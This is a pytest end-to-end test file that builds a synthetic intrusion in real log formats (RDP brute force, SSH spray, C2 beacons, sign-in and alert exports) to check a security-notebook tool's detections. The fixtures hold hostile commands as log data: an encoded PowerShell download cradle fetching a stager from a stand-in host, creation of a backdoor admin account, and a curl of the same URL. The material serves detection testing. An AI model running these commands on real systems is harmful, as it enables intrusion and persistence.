"""The notebooklets on logs in their real formats, imported with `nbcatalog data import`.

A small incident is written the way the tools that record it write it: a Windows
Security .evtx and winlogbeat JSON lines (an RDP brute force from one address over
several accounts, the logon that got through, and the account it then created and
added to Administrators), a Linux auth.log (an SSH password spray that ends with an
accepted password), a Zeek conn.log (beacons to a C2 port among ordinary traffic, and
the brute force's RDP connections) and Log Analytics portal CSV exports of SigninLogs
(the same address trying cloud accounts), SecurityAlert (alerts naming the addresses)
and ThreatIntelligenceIndicator (the C2 address listed). The files go into a fresh
store through the CLI; then each notebooklet runs once in a real kernel, and what it
reports is compared with counts taken from the files themselves (regexes over the
text, the JSON and CSV parsers of the standard library, python-evtx's XML for the
.evtx), never from the store.
"""

from __future__ import annotations

import base64
import csv
import json
import os
import re
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers.evtx_writer import EvtxEvent, write_evtx
from nbcatalog.cli.main import main

import nbcatalog
from nbcatalog.data import connect

pytestmark = pytest.mark.slow

T0 = datetime(2026, 11, 27, 8, 0, tzinfo=timezone.utc)
WINDOW = {"start": "2026-11-27T00:00:00Z", "end": "2026-11-28T00:00:00Z"}

WIN_HOST = "WIN-E2E01.contoso.local"
WIN_IP = "10.20.0.40"
RDP_ATTACKER = "203.0.113.50"
RDP_ACCOUNTS = ["administrator", "admin", "user", "test", "guest", "backup"]
BREACHED = "backup"  # the account the brute force gets into
NEW_ACCOUNT, NEW_SID = "svc_e2e", "S-1-5-21-3623811015-3361044348-30300820-1013"

LNX_HOST = "lnx-e2e01"
SPRAYER = "198.51.100.99"
SPRAY_USERS = ["oracle", "postgres", "ubuntu", "pi", "git", "ftp", "www", "test"]
SPRAY_USERS += ["jenkins", "hadoop", "nagios", "mysql", "tomcat", "guest", "ansible"]

URL_HOST = "dl.badcdn.example"
URL = f"http://{URL_HOST}/x/stage2.sh"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"

ZEEK_HOST = "10.20.0.15"
C2, C2_PORT = "192.0.2.66", 4444


# ------------------------------------------------------------------ writing the logs


def _at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def _logon_data(kind: int, user: str, domain: str, ip: str, logon_type: int, port: int):
    data = {
        "SubjectUserSid": "S-1-0-0" if kind == 4625 else "S-1-5-18",
        "SubjectUserName": "-" if kind == 4625 else "WIN-E2E01$",
        "SubjectDomainName": "-" if kind == 4625 else "CONTOSO",
        "SubjectLogonId": "0x0" if kind == 4625 else "0x3e7",
        "TargetUserSid": "S-1-0-0" if kind == 4625 else "S-1-5-21-3623811015-1001",
        "TargetUserName": user,
        "TargetDomainName": domain,
    }
    if kind == 4625:
        data |= {"Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a"}
    else:
        data["TargetLogonId"] = f"0x{0x3E0000 + port:x}"
    data |= {
        "LogonType": str(logon_type),
        "LogonProcessName": "User32 " if logon_type == 10 else "NtLmSsp ",
        "AuthenticationPackageName": "Negotiate" if logon_type == 10 else "NTLM",
        "WorkstationName": "KALI" if ip == RDP_ATTACKER else "WIN-E2E01",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe" if logon_type == 10 else "-",
        "IpAddress": ip,
        "IpPort": str(port),
    }
    return data


EXPLORER = "C:\\Windows\\explorer.exe"
DAILY_WORK = [
    (EXPLORER, "C:\\Windows\\Explorer.EXE"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    ),
    ("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\alice\\todo.txt"),
]


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def attacker_work() -> list[tuple[str, str]]:
    """What the intruder ran in the RDP session: recon, a new admin, a download cradle."""
    system32 = "C:\\Windows\\System32\\"
    return [
        (system32 + "rdpclip.exe", "rdpclip"),
        (system32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"'),
        (system32 + "whoami.exe", "whoami /all"),
        (system32 + "net.exe", f"net user {NEW_ACCOUNT} Winter2026! /add"),
        (system32 + "net.exe", f"net localgroup administrators {NEW_ACCOUNT} /add"),
        (
            system32 + "WindowsPowerShell\\v1.0\\powershell.exe",
            f"powershell.exe -nop -w hidden -enc {_encoded(CRADLE)}",
        ),
    ]


def _process_data(user, domain, logon_id, image, command, pid):
    return {
        "SubjectUserSid": "S-1-5-21-3623811015-1001",
        "SubjectUserName": user,
        "SubjectDomainName": domain,
        "SubjectLogonId": logon_id,
        "NewProcessId": f"0x{pid:x}",
        "NewProcessName": image,
        "TokenElevationType": "%%1938",
        "ProcessId": f"0x{pid - 8:x}",
        "CommandLine": command,
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": EXPLORER,
        "MandatoryLabel": "S-1-16-8192",
    }


def write_windows(folder: Path) -> tuple[Path, Path]:
    """Security.evtx: the first part of the brute force and benign logons; winlogbeat
    JSON: the rest of it, the logon that got through and the account changes."""
    evtx_events = []
    for i in range(30):  # 5 rounds over the accounts, every 20 s
        user = RDP_ACCOUNTS[i % len(RDP_ACCOUNTS)]
        data = _logon_data(4625, user, "WIN-E2E01", RDP_ATTACKER, 10, 50000 + i)
        evtx_events.append(EvtxEvent(4625, _at(20 * i), WIN_HOST, data=data))
    for i, (kind, user, ip, ltype) in enumerate(
        [
            (4625, "alice", "10.20.0.30", 3),
            (4625, "alice", "10.20.0.30", 3),
            (4624, "alice", "10.20.0.30", 3),
            (4624, "alice", "-", 2),
        ]
    ):
        data = _logon_data(kind, user, "CONTOSO", ip, ltype, 0 if ip == "-" else 61000 + i)
        evtx_events.append(EvtxEvent(kind, _at(900 + 60 * i), WIN_HOST, data=data))
    for logon_id, minute in [("0x51a2b", 16), ("0x61c3d", 40), ("0x72e4f", 70)]:
        for k, (image, command) in enumerate(DAILY_WORK):  # alice's ordinary sessions
            data = _process_data("alice", "CONTOSO", logon_id, image, command, 0x1000 + 16 * k)
            evtx_events.append(EvtxEvent(4688, _at(60 * minute + 20 * k), WIN_HOST, data=data))
    evtx_path = write_evtx(folder / "Security.evtx", evtx_events)

    beats = []

    def beat(kind: int, when: datetime, data: dict, action: str) -> None:
        beats.append(
            {
                "@timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
                "agent": {"type": "winlogbeat", "version": "8.11.1"},
                "event": {"code": str(kind), "action": action, "kind": "event"},
                "host": {"name": WIN_HOST.lower()},
                "log": {"level": "information"},
                "message": f"event {kind}",
                "winlog": {
                    "channel": "Security",
                    "computer_name": WIN_HOST,
                    "event_id": str(kind),
                    "provider_name": "Microsoft-Windows-Security-Auditing",
                    "record_id": 9000 + len(beats),
                    "task": {4624: "Logon", 4625: "Logon", 4688: "Process Creation"}.get(
                        kind, "User Account Management"
                    ),
                    "event_data": data,
                },
            }
        )

    for i in range(18):  # 3 more rounds, after the .evtx ends
        user = RDP_ACCOUNTS[i % len(RDP_ACCOUNTS)]
        data = _logon_data(4625, user, "WIN-E2E01", RDP_ATTACKER, 10, 51000 + i)
        beat(4625, _at(1200 + 15 * i), data, "logon-failed")
    win = _logon_data(4624, BREACHED, "WIN-E2E01", RDP_ATTACKER, 10, 51100)
    beat(4624, _at(1500), win, "logged-in")
    for k, (image, command) in enumerate(attacker_work()):
        pid = 0x2000 + 16 * k
        data = _process_data(BREACHED, "WIN-E2E01", win["TargetLogonId"], image, command, pid)
        beat(4688, _at(1510 + 8 * k), data, "created-process")
    subject = {
        "SubjectUserSid": "S-1-5-21-3623811015-1001",
        "SubjectUserName": BREACHED,
        "SubjectDomainName": "WIN-E2E01",
        "SubjectLogonId": win["TargetLogonId"],
    }
    created = {
        "TargetUserName": NEW_ACCOUNT,
        "TargetDomainName": "WIN-E2E01",
        "TargetSid": NEW_SID,
        **subject,
        "PrivilegeList": "-",
        "SamAccountName": NEW_ACCOUNT,
        "DisplayName": "%%1793",
        "UserPrincipalName": "-",
        "UserAccountControl": "%%2080 %%2082 %%2084",
    }
    beat(4720, _at(1560), created, "added-user-account")
    added = {
        "MemberName": "-",
        "MemberSid": NEW_SID,
        "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin",
        "TargetSid": "S-1-5-32-544",
        **subject,
        "PrivilegeList": "-",
    }
    beat(4732, _at(1590), added, "added-member-to-group")
    json_path = folder / "winlogbeat-security.ndjson"
    json_path.write_text("".join(json.dumps(b) + "\n" for b in beats), encoding="utf-8")
    return evtx_path, json_path


def write_auth_log(folder: Path) -> Path:
    """auth.log as rsyslog writes it (RFC 3164, no year): a spray, then a success."""
    lines = []

    def line(seconds: float, text: str, proc: str = "sshd", pid: int = 2001) -> None:
        stamp = _at(seconds)
        day = f"{stamp.day:>2}"
        lines.append(f"{stamp:%b} {day} {stamp:%H:%M:%S} {LNX_HOST} {proc}[{pid}]: {text}")

    line(0, "Server listening on 0.0.0.0 port 22.", pid=700)
    line(30, "Accepted publickey for alice from 10.20.0.30 port 40022 ssh2: ED25519 SHA256:q1")
    line(31, "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)")
    port = 40100
    for i, user in enumerate(SPRAY_USERS):  # two passwords per account, none for root
        for attempt in range(2):
            port += 1
            t = 120 + 10 * i + 4 * attempt
            line(t, f"Invalid user {user} from {SPRAYER} port {port}", pid=3000 + port)
            line(t + 1, "pam_unix(sshd:auth): check pass; user unknown", pid=3000 + port)
            line(
                t + 2,
                f"Failed password for invalid user {user} from {SPRAYER} port {port} ssh2",
                pid=3000 + port,
            )
    for attempt in range(3):  # root exists: no "Invalid user" line
        port += 1
        line(300 + attempt, f"Failed password for root from {SPRAYER} port {port} ssh2")
    for attempt in range(2):  # scanners that drop before a password: the Invalid line alone
        port += 1
        line(310 + attempt, f"Invalid user admin from {SPRAYER} port {port}", pid=3000 + port)
        line(
            310 + attempt,
            f"Connection closed by invalid user admin {SPRAYER} port {port} [preauth]",
        )
    port += 1
    line(400, f"Accepted password for deploy from {SPRAYER} port {port} ssh2", pid=4000)
    line(400, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
    line(
        410,
        f"deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s {URL}",
        "sudo",
        4010,
    )
    line(420, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "CRON")
    line(460, "Failed password for bob from 10.20.0.31 port 40999 ssh2", pid=4100)
    path = folder / "auth.log"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    later = (T0 + timedelta(days=1)).timestamp()  # the year comes from the file's mtime
    os.utime(path, (later, later))
    return path


ZEEK_FIELDS = (
    "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes "
    "resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts "
    "orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents"
).split()
ZEEK_TYPES = (
    "time string addr port addr port enum string interval count count string bool bool "
    "count string count count count count set[string]"
).split()


def write_conn_log(folder: Path) -> Path:
    """conn.log as Zeek writes it: TSV under #-headers, '-' for unset fields."""
    rows = []

    def conn(seconds, orig, oport, resp, rport, proto, service, local_orig):
        rows.append(
            [
                f"{_at(seconds).timestamp():.6f}",
                f"C{len(rows):08d}xyz",
                orig,
                str(oport),
                resp,
                str(rport),
                proto,
                service,
                "1.250000" if proto == "tcp" else "0.010000",
                "312",
                "1024",
                "SF",
                local_orig,
                "F",
                "0",
                "ShADadFf" if proto == "tcp" else "Dd",
                "6",
                "632",
                "5",
                "1292",
                "(empty)",
            ]
        )

    for i in range(12):  # a beacon every 5 minutes
        conn(60 + 300 * i, ZEEK_HOST, 51000 + i, C2, C2_PORT, "tcp", "-", "T")
    for i in range(9):
        conn(100 + 200 * i, ZEEK_HOST, 53000 + i, "10.20.0.2", 53, "udp", "dns", "T")
    for i in range(4):
        conn(150 + 400 * i, ZEEK_HOST, 52000 + i, "198.51.100.200", 443, "tcp", "ssl", "T")
    for i in range(7):  # the brute force's RDP connections, seen at the perimeter
        conn(20 * i, RDP_ATTACKER, 50000 + i, WIN_IP, 3389, "tcp", "-", "F")
    head = [
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        "#path\tconn",
        f"#open\t{T0:%Y-%m-%d-%H-%M-%S}",
        "#fields\t" + "\t".join(ZEEK_FIELDS),
        "#types\t" + "\t".join(ZEEK_TYPES),
    ]
    rows.sort(key=lambda r: float(r[0]))
    body = ["\t".join(r) for r in rows]
    path = folder / "conn.log"
    path.write_text("\n".join(head + body + [f"#close\t{T0:%Y-%m-%d-%H-%M-%S}"]) + "\n")
    return path


def write_signins_csv(folder: Path) -> Path:
    """A SigninLogs export from the Log Analytics portal ('TimeGenerated [UTC]', US times)."""
    header = [
        "TenantId",
        "TimeGenerated [UTC]",
        "OperationName",
        "ResultType",
        "ResultDescription",
        "UserPrincipalName",
        "UserDisplayName",
        "AppDisplayName",
        "IPAddress",
        "ClientAppUsed",
        "Location",
        "LocationDetails",
        "Status",
        "UserAgent",
        "_ResourceId",
        "Type",
    ]
    tries = [("carol@contoso.com", "Carol"), ("dave@contoso.com", "Dave")]
    rows = []
    for i in range(10):
        upn, name = tries[i % 2]
        failed = i < 9
        ip = RDP_ATTACKER if i < 9 else "203.0.113.7"
        stamp = _at(2000 + 30 * i)
        rows.append(
            [
                "4a1c6e2d-0000-0000-0000-000000000001",
                stamp.strftime("%m/%d/%Y, %I:%M:%S.%f")[:-3] + stamp.strftime(" %p"),
                "Sign-in activity",
                "50126" if failed else "0",
                "Invalid username or password or Invalid on-premise username or password."
                if failed
                else "",
                upn,
                name,
                "Azure Portal",
                ip,
                "Browser",
                "NL",
                json.dumps(
                    {"city": "Amsterdam", "state": "North Holland", "countryOrRegion": "NL"}
                ),
                json.dumps({"errorCode": 50126 if failed else 0}),
                "Mozilla/5.0 (X11; Linux x86_64)",
                "/tenants/4a1c6e2d/providers/Microsoft.aadiam",
                "SigninLogs",
            ]
        )
    path = folder / "query_data.csv"
    with path.open("w", newline="", encoding="utf-8-sig") as fh:
        writer = csv.writer(fh, quoting=csv.QUOTE_MINIMAL)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _portal_time(stamp: datetime) -> str:
    """How the Log Analytics portal writes a time in a CSV export."""
    return stamp.strftime("%m/%d/%Y, %I:%M:%S.%f")[:-3] + stamp.strftime(" %p")


def _write_export(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8-sig") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def write_ti_csv(folder: Path) -> Path:
    """ThreatIntelligenceIndicator export: the C2 address (and one the case never meets)."""
    header = [
        "TenantId",
        "TimeGenerated [UTC]",
        "IndicatorId",
        "Action",
        "Active",
        "ConfidenceScore",
        "Description",
        "ThreatType",
        "ThreatSeverity",
        "ExpirationDateTime [UTC]",
        "TrafficLightProtocolLevel",
        "NetworkIP",
        "IndicatorProvider",
        "Type",
    ]
    rows = [
        [
            "4a1c6e2d-0000-0000-0000-000000000001",
            _portal_time(T0 - timedelta(hours=1)),
            f"ti-{n}",
            "alert",
            "True",
            "90",
            f"{what} server",
            "C2",
            "5",
            _portal_time(T0 + timedelta(days=30)),
            "amber",
            address,
            "ExampleFeed",
            "ThreatIntelligenceIndicator",
        ]
        for n, (address, what) in enumerate([(C2, "Beacon"), ("198.51.100.250", "Phishing")])
    ]
    url_row = dict(zip(header, rows[0], strict=True)) | {
        "IndicatorId": "ti-url",
        "Description": "Stager download",
        "ThreatType": "MaliciousUrl",
        "NetworkIP": "",
        "Url": URL,
    }
    header.insert(-1, "Url")
    rows = [r[:-1] + [""] + r[-1:] for r in rows]
    rows.append([url_row[h] for h in header])
    return _write_export(folder / "ti_indicators.csv", header, rows)


ENTITY_KEYS = {"ip": "Address", "host": "HostName", "url": "Url"}


def write_alerts_csv(folder: Path) -> Path:
    """SecurityAlert export: alerts with their Entities JSON, one naming the C2 address."""
    header = [
        "TenantId",
        "TimeGenerated [UTC]",
        "DisplayName",
        "AlertName",
        "AlertSeverity",
        "Description",
        "ProviderName",
        "SystemAlertId",
        "StartTime [UTC]",
        "EndTime [UTC]",
        "Entities",
        "CompromisedEntity",
        "Status",
        "Type",
    ]
    alerts = [
        ("Beaconing to a rare destination", "High", [("ip", C2), ("host", LNX_HOST)]),
        ("Multiple failed RDP logons", "Medium", [("ip", RDP_ATTACKER), ("host", "WIN-E2E01")]),
        ("SSH logon after many failures", "Medium", [("ip", SPRAYER), ("host", LNX_HOST)]),
        ("Download cradle in a command line", "High", [("url", URL), ("host", "WIN-E2E01")]),
    ]
    rows = []
    for n, (name, severity, entities) in enumerate(alerts):
        listed = [
            {
                "$id": str(i + 2),
                "Type": kind,
                ENTITY_KEYS[kind]: v,
            }
            for i, (kind, v) in enumerate(entities)
        ]
        when = _at(600 * (n + 1))
        rows.append(
            [
                "4a1c6e2d-0000-0000-0000-000000000001",
                _portal_time(when),
                name,
                name,
                severity,
                f"{name} (raised from the case's logs)",
                "ASI Scheduled Alerts",
                f"7f1e0c2a-0000-4000-8000-00000000000{n}",
                _portal_time(when - timedelta(minutes=5)),
                _portal_time(when),
                json.dumps(listed),
                entities[1][1],
                "New",
                "SecurityAlert",
            ]
        )
    return _write_export(folder / "alerts.csv", header, rows)


# ------------------------------------------------------------------ reading them back


def evtx_records(path: Path) -> list[dict[str, str]]:
    """EventID and EventData of each record, from python-evtx's XML, by regex."""
    from Evtx.Evtx import Evtx

    out = []
    with Evtx(str(path)) as log:
        for record in log.records():
            xml = record.xml()
            fields = dict(re.findall(r'<Data Name="(\w+)">([^<]*)</Data>', xml))
            fields["EventID"] = re.search(r"<EventID[^>]*>(\d+)</EventID>", xml).group(1)
            out.append(fields)
    return out


def winlogbeat_records(path: Path) -> list[dict[str, str]]:
    out = []
    for text in path.read_text(encoding="utf-8").splitlines():
        beat = json.loads(text)["winlog"]
        out.append({**beat["event_data"], "EventID": beat["event_id"]})
    return out


ATTEMPT = re.compile(
    r"sshd\[\d+\]: (?P<what>Failed password for (?:invalid user )?|Accepted \w+ for |Invalid user )"
    r"(?P<user>\S+) from (?P<ip>[\d.]+) port (?P<port>\d+)"
)


def auth_attempts(path: Path) -> list[dict[str, str]]:
    """One attempt per Failed/Accepted line, and per Invalid-user line that no
    Failed/Accepted line of the same connection (address and port) follows."""
    hits = [m.groupdict() for m in map(ATTEMPT.search, path.read_text().splitlines()) if m]
    answered = {(h["ip"], h["port"]) for h in hits if not h["what"].startswith("Invalid")}
    return [
        {**h, "result": "Success" if h["what"].startswith("Accepted") else "Failure"}
        for h in hits
        if not h["what"].startswith("Invalid") or (h["ip"], h["port"]) not in answered
    ]


def zeek_connections(path: Path) -> list[dict[str, str]]:
    fields: list[str] = []
    out = []
    for text in path.read_text().splitlines():
        if text.startswith("#fields"):
            fields = text.split("\t")[1:]
        elif not text.startswith("#"):
            out.append(dict(zip(fields, text.split("\t"), strict=True)))
    return out


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


# ------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def logs(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("case-logs")
    evtx, beats = write_windows(folder)
    return {
        "evtx": evtx,
        "winlogbeat": beats,
        "auth": write_auth_log(folder),
        "conn": write_conn_log(folder),
        "csv": write_signins_csv(folder),
        "ti": write_ti_csv(folder),
        "alerts": write_alerts_csv(folder),
    }


@pytest.fixture(scope="module")
def store(logs, tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("case-store") / "case.duckdb"
    result = CliRunner().invoke(main, ["data", "import", str(logs["evtx"].parent), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert re.search(r"^total: read (\d+), stored \1, rejected 0,", result.output, re.M), (
        result.output
    )
    return db


@pytest.fixture(scope="module")
def run(store, tmp_path_factory):
    out = tmp_path_factory.mktemp("case-runs")
    cache: dict[str, object] = {}

    def run_once(name: str, **params):
        key = name + json.dumps(params, sort_keys=True)
        if key not in cache:
            cache[key] = nbcatalog.run(
                name,
                data_source=f"duckdb:{store}",
                output_dir=out,
                silent=True,
                quiet=True,
                **WINDOW,
                **params,
            )
        return cache[key]

    return run_once


@pytest.fixture(scope="module")
def windows_events(logs) -> list[dict[str, str]]:
    return evtx_records(logs["evtx"]) + winlogbeat_records(logs["winlogbeat"])


# ------------------------------------------------------------------ the tests


def test_every_file_is_imported_without_rejections(logs, store):
    result = CliRunner().invoke(main, ["data", "import", str(logs["auth"]), "--db", str(store)])
    assert result.exit_code == 0 and "already imported" in result.output
    in_files = {
        "SecurityEvent": len(evtx_records(logs["evtx"]))
        + len(logs["winlogbeat"].read_text().splitlines()),
        "Syslog": len(logs["auth"].read_text().splitlines()),
        "AzureNetworkAnalytics_CL": len(zeek_connections(logs["conn"])),
        "SigninLogs": len(csv_rows(logs["csv"])),
        "SecurityAlert": len(csv_rows(logs["alerts"])),
        "ThreatIntelligenceIndicator": len(csv_rows(logs["ti"])),
    }
    src = connect(f"duckdb:{store}")
    with src.session():
        count = 'SELECT count(*) FROM "{}"'  # table names from this test only
        stored = {t: int(src.sql(count.format(t)).iloc[0, 0]) for t in in_files}
    assert stored == in_files


def test_host_logons_summary_on_the_windows_host(run, windows_events):
    res = run("host_logons_summary", host="WIN-E2E01")
    assert res.status == "ok"
    attempts = [e for e in windows_events if e["EventID"] in ("4624", "4625")]
    failed = [e for e in attempts if e["EventID"] == "4625" and e["IpAddress"] == RDP_ATTACKER]
    won = [e for e in attempts if e["EventID"] == "4624" and e["IpAddress"] == RDP_ATTACKER]

    sessions = res["logon_sessions"]
    assert len(sessions) == len(attempts)
    ours = sessions[sessions["SourceIP"] == RDP_ATTACKER]
    assert (ours["LogonResult"] == "Failure").sum() == len(failed) == 48
    tried = {f"WIN-E2E01\\{e['TargetUserName']}".lower() for e in failed}
    assert set(ours.loc[ours["LogonResult"] == "Failure", "Account"].str.lower()) == tried
    assert set(ours["LogonTypeName"]) == {"RemoteInteractive"}

    attack = res["attack_findings"].set_index("SourceIP").loc[RDP_ATTACKER]
    assert attack["Kind"] == "brute force"
    assert (attack["Failures"], attack["Accounts"]) == (len(failed), len(tried))
    assert (
        attack["SucceededAs"].lower()
        == f"win-e2e01\\{BREACHED}"
        == (f"WIN-E2E01\\{won[0]['TargetUserName']}".lower())
    )
    # failed, then logged on from the same address (here every success follows its failures)
    failed_from = {e["IpAddress"] for e in attempts if e["EventID"] == "4625"}
    won_from = {e["IpAddress"] for e in attempts if e["EventID"] == "4624"}
    assert set(res["failed_success"]["SourceIP"]) == failed_from & won_from
    assert res["failed_success"]["SourceIP"].iloc[0] == RDP_ATTACKER  # most failures first
    assert any(s.startswith(f"Brute force from {RDP_ATTACKER}") for s in res["attack_summary"])
    # alice's two failures from inside are attempts too, but no attack
    assert res["logon_matrix"]["Count"].sum() == len(attempts)
    by_account = res["logons_by_account"].set_index("Account")
    alice = [e for e in attempts if e["TargetUserName"] == "alice"]
    assert by_account.loc["CONTOSO\\alice", "Total"] == len(alice)


def test_host_logons_summary_on_the_linux_host(run, logs):
    res = run("host_logons_summary", host=LNX_HOST)
    assert res.status == "ok"
    attempts = auth_attempts(logs["auth"])
    spray = [a for a in attempts if a["ip"] == SPRAYER]
    spray_failures = [a for a in spray if a["result"] == "Failure"]
    accepted = [a["user"] for a in spray if a["result"] == "Success"]

    sessions = res["logon_sessions"]
    assert set(sessions["Platform"]) == {"Linux"}
    assert len(sessions) == len(attempts)
    ours = sessions[sessions["SourceIP"] == SPRAYER]
    assert (ours["LogonResult"] == "Failure").sum() == len(spray_failures)
    assert ours.loc[ours["LogonResult"] == "Success", "Account"].tolist() == accepted == ["deploy"]
    attack = res["attack_findings"].set_index("SourceIP").loc[SPRAYER]
    assert attack["Kind"] == "password spray"
    assert attack["Failures"] == len(spray_failures)
    assert attack["Accounts"] == len({a["user"] for a in spray_failures})
    assert attack["SucceededAs"] == "deploy"
    result_counts = Counter(a["result"] for a in attempts)
    assert sessions["LogonResult"].value_counts().to_dict() == dict(result_counts)


def test_win_host_events_lists_the_account_created_and_added(run, windows_events):
    res = run("win_host_events", host="WIN-E2E01")
    assert res.status == "ok"
    # every event but logons and process creations
    others = Counter(
        e["EventID"] for e in windows_events if e["EventID"] not in ("4624", "4625", "4688")
    )
    pivot = res["event_pivot"].set_index("EventID")["Events"]
    assert {str(k): v for k, v in pivot.items()} == dict(others)
    events = res["account_events"]
    assert sorted(events["EventID"].astype(str)) == sorted(others)
    changes = res["account_changes"]
    assert any(c.endswith(f"created user WIN-E2E01\\{NEW_ACCOUNT}") for c in changes), changes
    assert any(
        f"added WIN-E2E01\\{NEW_ACCOUNT} to local group Builtin\\Administrators" in c
        for c in changes
    ), changes
    assert all(BREACHED in c for c in changes)  # done by the breached account


def test_network_flow_summary_on_the_zeek_host(run, logs):
    res = run("network_flow_summary", ip=ZEEK_HOST)
    assert res.status == "ok"
    conns = [
        c for c in zeek_connections(logs["conn"]) if ZEEK_HOST in (c["id.orig_h"], c["id.resp_h"])
    ]
    # the protocol shown is Zeek's service (application protocol) when it named one
    protocol = {id(c): c["service"] if c["service"] != "-" else c["proto"] for c in conns}
    by_port = Counter((protocol[id(c)], int(c["id.resp_p"])) for c in conns)
    index = res["flow_index"]
    got = index.groupby(["Protocol", "DestPort"])["Flows"].sum()
    assert {(p.lower(), int(port)): n for (p, port), n in got.items()} == dict(by_port)
    per_protocol = res["protocol_counts"].groupby("Protocol")["Flows"].sum()
    assert {p.lower(): n for p, n in per_protocol.items()} == dict(Counter(protocol.values()))
    c2 = index[(index["RemoteIP"] == C2) & (index["DestPort"] == C2_PORT)]
    assert c2["Direction"].tolist() == ["outbound"]
    assert c2["Flows"].sum() == by_port[("tcp", C2_PORT)] == 12
    summary = res["flow_summary"].set_index("RemoteIP")
    assert summary.loc[C2, "Flows"] == 12
    assert summary["Flows"].sum() == len(conns)
    listed = {r["NetworkIP"] for r in csv_rows(logs["ti"])}
    remote = {c["id.resp_h"] if c["id.orig_h"] == ZEEK_HOST else c["id.orig_h"] for c in conns}
    assert res["ti_matches"] == sorted(listed & remote) == [C2]
    ti = res["ti_results"].set_index("Ioc")
    assert bool(ti.loc[C2, "Result"]) and ti.loc[C2, "Severity"] == "high"


def test_ip_summary_on_the_attacker_joins_windows_signins_and_flows(run, logs, windows_events):
    res = run("ip_summary", ip=RDP_ATTACKER)
    assert res.status == "ok"
    assert res["ip_type"] == "documentation"
    logons = res["logons"]
    windows = logons[logons["Source"] == "Windows"]
    failed = [
        e for e in windows_events if e["EventID"] == "4625" and e["IpAddress"] == RDP_ATTACKER
    ]
    won = [e for e in windows_events if e["EventID"] == "4624" and e["IpAddress"] == RDP_ATTACKER]
    assert (windows["Result"] == "Failure").sum() == len(failed)
    assert (windows["Result"] == "Success").sum() == len(won)

    exported = [r for r in csv_rows(logs["csv"]) if r["IPAddress"] == RDP_ATTACKER]
    signins = res["aad_signins"]
    assert len(signins) == len(exported) == 9
    assert sorted(signins["UserPrincipalName"]) == sorted(r["UserPrincipalName"] for r in exported)
    assert (logons["Source"] == "Entra ID sign-in").sum() == len(exported)

    conns = [c for c in zeek_connections(logs["conn"]) if c["id.orig_h"] == RDP_ATTACKER]
    flows = res["az_network_flows"]
    assert set(flows["RemoteIP"]) == {WIN_IP}
    assert flows["Flows"].sum() == len(conns)


def test_account_summary_on_a_user_of_the_signin_export(run, logs):
    res = run("account_summary", account="dave")
    assert res.status == "ok"
    exported = [r for r in csv_rows(logs["csv"]) if r["UserPrincipalName"] == "dave@contoso.com"]
    assert res["accounts"]["AccountId"].tolist() == ["entra:dave@contoso.com"]
    events = res["account_events"]
    assert set(events["Source"]) == {"Entra ID sign-ins"}
    got = Counter(zip(events["Result"], events["IpAddress"], strict=True))
    expected = Counter(
        ("Success" if r["ResultType"] == "0" else "Failure", r["IPAddress"]) for r in exported
    )
    assert got == expected and expected[("Success", "203.0.113.7")] == 1
    assert len(res["signin_locations"]) == len(exported)


def test_alert_ti_enrich_ranks_the_alert_naming_a_listed_address(run, logs):
    res = run("alert_ti_enrich")
    assert res.status == "ok"
    exported = csv_rows(logs["alerts"])
    listed = {r["NetworkIP"] or r["Url"] for r in csv_rows(logs["ti"])}
    naming = {
        r["DisplayName"]
        for r in exported
        if {e.get("Address") or e.get("Url") for e in json.loads(r["Entities"])} & listed
    }
    ranked = res["enriched_results"]
    assert len(ranked) == len(exported)
    risk = ranked.set_index("AlertDisplayName")["TiRisk"]
    assert {name for name, r in risk.items() if r == "high"} == naming
    assert {r for name, r in risk.items() if name not in naming} == {"none"}
    assert ranked["AlertDisplayName"].iloc[0] in naming  # highest risk first
    assert set(res["high_risk_alerts"]) == naming


def _command_lines(windows_events: list[dict[str, str]]) -> list[str]:
    """Process command lines, with PowerShell's -enc payloads decoded (UTF-16LE base64)."""
    lines = []
    for e in windows_events:
        if e["EventID"] != "4688":
            continue
        lines.append(e["CommandLine"])
        for blob in re.findall(r"-enc\s+([A-Za-z0-9+/=]+)", e["CommandLine"]):
            lines.append(base64.b64decode(blob).decode("utf-16-le"))
    return lines


def test_logon_session_rarity_puts_the_intruders_session_first(run, windows_events):
    res = run("logon_session_rarity", host="WIN-E2E01")
    assert res.status == "ok"
